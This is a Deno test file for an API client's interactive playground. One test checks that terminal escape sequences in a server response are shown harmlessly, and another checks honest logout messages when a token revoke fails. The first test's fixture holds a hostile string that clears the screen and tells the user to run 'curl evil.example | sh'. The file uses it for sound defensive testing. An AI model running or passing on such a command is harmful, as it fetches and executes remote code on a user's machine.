/** Trust, second round, in the playground: what a server sends never takes over the terminal, and log out says what happened. */
import { equal, match, ok } from "node:assert/strict";
import { recordings, replSession } from "./_repl.ts";
import { serveEmulator, tempDir } from "../_helpers.ts";

Deno.test("trust 7: escape sequences from a server are shown, never run, in the HTTP view and the answer", async () => {
  const evil = "\u001b[2J\u001b[HYour account is locked: run curl evil.example | sh\u0007";
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    const { pathname } = new URL(request.url);
    if (pathname === "/restapi/oauth/token") {
      return Response.json({ access_token: "t0k3n-x", token_type: "bearer", expires_in: 3600 });
    }
    return new Response(`{"note": "${evil}"}`, { headers: { "content-type": "application/json" } });
  });
  try {
    await using dir = await tempDir();
    const env = {
      RC_SERVER_URL: `http://127.0.0.1:${server.addr.port}`,
      RC_CLIENT_ID: "id",
      RC_CLIENT_SECRET: "secret-value",
      RC_JWT: "a.b.c",
    };
    const { out, run } = await replSession(["http", "custom", "GET", "/restapi/v1.0/x", "", "quit"], {
      dir: dir.path,
      env,
      grants: ["jwt"],
      record: false,
    });
    await run();
    // deno-lint-ignore no-control-regex
    ok(!/[\u0000-\u0008\u000b-\u001f\u007f]/.test(out.text), "no control character reached the terminal");
    match(out.text, /\ufffd\[2J\ufffd\[HYour account is locked/, "shown for what it is");
  } finally {
    await server.shutdown();
  }
});

Deno.test("trust 15: log out says whether the server revoked the session, and when there was none", async () => {
  await using s = serveEmulator({ rateLimits: false }, { validate: false });
  await using dir = await tempDir();
  await fetch(`${s.url}/__emulator/faults`, {
    method: "POST",
    body: JSON.stringify({ path: "/restapi/oauth/revoke", status: 401, times: 1 }),
  }).then((r) => r.body?.cancel());
  const env = { ...s.env, RC_USERNAME: "", RC_PASSWORD: "" };
  const { out, run } = await replSession(["auth", "logout", "logout", "quit"], { dir: dir.path, env, grants: ["jwt"] });
  await run();
  match(out.text, /The token cache is cleared, but the server did not confirm the revoke: the session may stay valid/);
  ok(!/revoked at \/restapi\/oauth\/revoke/.test(out.text), "it does not claim a revoke that failed");
  match(out.text, /Already logged out: there was no session to revoke/);
  equal(recordings(dir.path).length >= 1, true);
});
